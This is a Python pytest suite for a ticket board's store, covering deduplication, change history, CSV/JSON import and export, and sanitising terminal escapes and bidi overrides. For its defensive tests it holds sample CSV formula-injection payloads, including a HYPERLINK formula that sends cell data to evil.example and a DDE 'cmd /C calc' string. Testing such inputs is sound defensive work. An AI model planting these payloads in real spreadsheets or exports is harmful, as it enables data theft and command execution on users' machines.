from __future__ import annotations

import csv
import io
import json

import pytest
from langgraph.store.memory import InMemoryStore

from stores.board import Board, BoardError, ticket_prefix
from stores.board_io import export_rows, import_rows, read_rows


@pytest.fixture
def board() -> Board:
    return Board(InMemoryStore(), "core")


def test_ids_carry_the_projects_prefix():
    assert ticket_prefix("core") == "CORE"
    assert ticket_prefix("cortex-docs") == "CORTEX"
    assert ticket_prefix("42-things") == "T42"


async def test_a_matching_title_updates_instead_of_duplicating(board):
    op, first, _ = await board.upsert("Fix the login timeout", {"owner": "Noor"}, by="t")
    assert (op, first.id) == ("create", "CORE-1")
    op, again, _ = await board.upsert("fix the Login timeout.", {"owner": "Noor"}, by="t")
    assert (op, again.id) == ("unchanged", "CORE-1")
    op, moved, changed = await board.upsert("Fix login timeout", {"owner": "Lee"}, by="t")
    assert (op, changed, moved.owner) == ("update", ["owner"], "Lee")
    op, other, _ = await board.upsert("CSV export for invoices", {}, by="t")
    assert (op, other.id) == ("create", "CORE-2")
    assert [t.id for t in await board.tickets()] == ["CORE-1", "CORE-2"]


async def test_terminal_escapes_and_bidi_overrides_are_not_stored(board):
    fields = {"owner": "No\x1b[2Jor", "description": "line one\n\x07line \u202etwo",
              "acceptance_criteria": ["\x1b]0;pwned\x07done"], "labels": ["ui\u2066"]}  # fmt: skip
    _, ticket, _ = await board.upsert("Fix \x1b[31mlogin\u202e timeout", fields, by="t")
    stored = (await board.tickets())[0]
    for shown in (ticket, stored):
        assert shown.title == "Fix [31mlogin timeout"
        assert (shown.owner, shown.description) == ("No[2Jor", "line one\nline two")
        assert (shown.acceptance_criteria, shown.labels) == (["]0;pwneddone"], ["ui"])
    epic = await board.add_epic("Faster \x1b[5mcheckout", "cut \u202esteps")
    assert (epic.title, epic.goal) == ("Faster [5mcheckout", "cut steps")


@pytest.mark.parametrize("title", ["   ", "\x01\x02", "\x1b\u202e \t"])
async def test_a_title_of_only_spaces_or_control_characters_is_refused_not_stored(board, title):
    await board.upsert("Ship 2.3", {}, by="t")
    for write in (
        board.upsert(title, {}, by="t"),
        board.update("CORE-1", {"title": title}, by="t"),
        board.add_epic(title, ""),
    ):
        with pytest.raises(BoardError, match="title is empty once spaces and control"):
            await write
    assert [t.title for t in await board.tickets()] == ["Ship 2.3"]
    assert await board.epics() == []
    report = await import_rows(board, [{"title": title}, {"title": "Real one"}], by="import")
    assert report.imported == ["CORE-2"] and [r["row"] for r in report.rejected] == [1]


async def test_every_change_is_in_the_history_with_who_and_which_thread(board):
    await board.upsert("Ship 2.3", {}, by="chat", thread="th-1")
    ticket, changed = await board.update("core-1", {"status": "in progress"}, by="cli")
    assert changed == ["status"] and ticket.status == "in_progress"
    history = [(h.field, h.old, h.new, h.by, h.thread) for h in ticket.history]
    assert history == [
        ("created", None, "Ship 2.3", "chat", "th-1"),
        ("status", "todo", "in_progress", "cli", None),
    ]


async def test_a_bad_value_is_a_clear_error_and_nothing_is_written(board):
    await board.upsert("Ship 2.3", {"owner": "Ann"}, by="t")
    with pytest.raises(BoardError, match="status='someday' is not valid"):
        await board.update("CORE-1", {"status": "someday", "owner": "Bo"}, by="t")
    ticket = await board.ticket("CORE-1")
    assert (ticket.status, ticket.owner, len(ticket.history)) == ("todo", "Ann", 1)
    with pytest.raises(BoardError, match="no ticket CORE-9"):
        await board.update("CORE-9", {"status": "done"}, by="t")
    with pytest.raises(BoardError, match="title"):
        await board.upsert("x" * 300, {}, by="t")
    assert len(await board.tickets()) == 1


async def test_import_reports_each_row_and_rejects_bad_ones_alone(board, tmp_path):
    source = tmp_path / "export.csv"
    source.write_text(
        "id,title,status,owner,acceptance_criteria\n"
        'JIRA-7,Imported ticket,In Progress,Ann,"works offline\nsyncs on reconnect"\n'
        ",No id here,done,,\n"
        ",,todo,,\n"
        "BAD ID,Wrong id,todo,,\n"
        ",Another,someday,,\n"
    )
    report = await import_rows(board, read_rows(source), by="import")
    assert report.imported == ["JIRA-7", "CORE-1"]
    assert [r["row"] for r in report.rejected] == [3, 4, 5]
    assert "no title" in report.rejected[0]["reason"]
    imported = await board.ticket("JIRA-7")
    assert imported.status == "in_progress"
    assert imported.acceptance_criteria == ["works offline", "syncs on reconnect"]
    again = await import_rows(board, read_rows(source), by="import")
    assert again.imported == [] and again.unchanged == ["JIRA-7", "CORE-1"]


async def test_export_then_import_round_trips(board, tmp_path):
    await board.upsert("Fix the login timeout", {"owner": "Noor", "due": "2026-11-27"}, by="t")
    for fmt, name in (("csv", "out.csv"), ("json", "out.json")):
        path = tmp_path / name
        path.write_text(export_rows(await board.tickets(), fmt))
        copy = Board(InMemoryStore(), "core")
        report = await import_rows(copy, read_rows(path), by="t")
        assert report.imported == ["CORE-1"] and not report.rejected
        ticket = await copy.ticket("CORE-1")
        assert (ticket.owner, str(ticket.due)) == ("Noor", "2026-11-27")


def test_a_file_that_is_neither_csv_nor_json_list_says_so(tmp_path):
    bad = tmp_path / "tickets.json"
    bad.write_text(json.dumps({"title": "not a list"}))
    with pytest.raises(BoardError, match="must be a list"):
        read_rows(bad)
    broken = tmp_path / "broken.json"
    broken.write_text("[{")
    with pytest.raises(BoardError, match="not valid JSON"):
        read_rows(broken)


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "description": "+cmd|' /C calc'!A0",
    "acceptance_criteria": ["-2+3", "@SUM(1+1)", "'=already quoted", "plain"],
    "labels": ["=x", "ok"],
}


async def test_a_csv_export_runs_no_formula_and_imports_back_unchanged(board, tmp_path):
    from stores.spreadsheet_cells import FORMULA_STARTS

    fields = {k: v for k, v in HOSTILE.items() if k != "title"}
    await board.upsert(HOSTILE["title"], fields, by="t")
    text = export_rows(await board.tickets(), "csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells and not [c for c in cells if c[:1] in FORMULA_STARTS]
    path = tmp_path / "out.csv"
    path.write_text(text)
    copy = Board(InMemoryStore(), "core")
    report = await import_rows(copy, read_rows(path), by="t")
    assert report.imported == ["CORE-1"] and not report.rejected
    ticket = await copy.ticket("CORE-1")
    assert ticket.title == HOSTILE["title"]
    assert ticket.description == HOSTILE["description"]
    assert ticket.acceptance_criteria == HOSTILE["acceptance_criteria"]
    assert ticket.labels == HOSTILE["labels"]


@pytest.mark.parametrize(
    "value", ["", "'", "''", "=1+1", "'=1+1", "''=1", "-2", "\t=x", "\rx", "＝1", "'hi", "a=b"]
)
def test_every_value_survives_escaping_and_no_escaped_cell_is_a_formula(value):
    from stores.spreadsheet_cells import FORMULA_STARTS, escape_cell, unescape_cell

    cell = escape_cell(value)
    assert cell[:1] not in FORMULA_STARTS
    assert unescape_cell(cell) == value


async def test_list_markers_are_dropped_but_a_leading_minus_is_kept(board, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text('title,acceptance_criteria\nT,"- first\n* second\n-2+3"\n')
    report = await import_rows(board, read_rows(source), by="t")
    ticket = await board.ticket(report.imported[0])
    assert ticket.acceptance_criteria == ["first", "second", "-2+3"]


async def test_a_repeated_id_in_one_file_is_rejected_and_a_reimport_changes_nothing(
    board, tmp_path
):
    source = tmp_path / "dup.csv"
    source.write_text("id,title,status\nIMP-4,Dup one,todo\nIMP-4,Dup two,done\nimp-4,Dup 3,todo\n")
    first = await import_rows(board, read_rows(source), by="import")
    assert first.imported == ["IMP-4"] and [r["row"] for r in first.rejected] == [2, 3]
    assert "id IMP-4 repeats row 1: one row per ticket" in first.rejected[0]["reason"]
    again = await import_rows(board, read_rows(source), by="import")
    assert again.unchanged == ["IMP-4"] and again.updated == []
    ticket = await board.ticket("IMP-4")
    assert (ticket.title, ticket.status, len(ticket.history)) == ("Dup one", "todo", 1)


@pytest.mark.parametrize("text", ["", "id,title,status\n", "[]"])
async def test_a_file_without_rows_imports_nothing_without_an_error(board, tmp_path, text):
    source = tmp_path / ("empty.json" if text == "[]" else "empty.csv")
    source.write_text(text)
    report = await import_rows(board, read_rows(source), by="import")
    assert (report.rows, report.imported, report.rejected) == (0, [], [])
    assert report.read_as == "a file without rows"
